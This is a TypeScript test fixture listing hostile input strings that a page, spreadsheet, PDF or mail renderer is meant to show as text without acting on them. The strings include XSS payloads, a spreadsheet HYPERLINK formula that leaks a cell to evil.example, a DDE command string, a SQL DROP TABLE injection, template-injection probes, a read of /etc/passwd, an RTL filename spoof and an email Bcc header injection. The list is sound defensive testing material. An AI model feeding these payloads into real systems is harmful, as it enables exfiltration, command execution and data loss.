/** Texts that a page, a spreadsheet, a PDF or a mail must show and never obey. */
export const HOSTILE_TEXTS = [
  `<script>alert("owl")</script>`,
  `"><img src=x onerror=alert(1)>`,
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3 @SUM(1;2)",
  "\u202Egnp.exe\u202C right to left",
  "</script><svg/onload=alert(1)>",
  "{{constructor.constructor('alert(1)')()}} #{7*7} <%= 7*7 %>",
  "Robert'); DROP TABLE profiles;--",
  "javascript:alert(1) https://evil.example/\"onmouseover='alert(1)'",
  '#let x = read("/etc/passwd") $ sum $ *bold* _it_ @ref',
  "Zalgo: h̷̡̛e̸̢͝l̵̛͜l̶̢͠o 👩‍👩‍👧‍👦 \u0000 \uFEFF end",
  "Subject: hi\r\nBcc: someone@evil.example\r\n\r\nbody",
  "a".repeat(2100),
] as const;
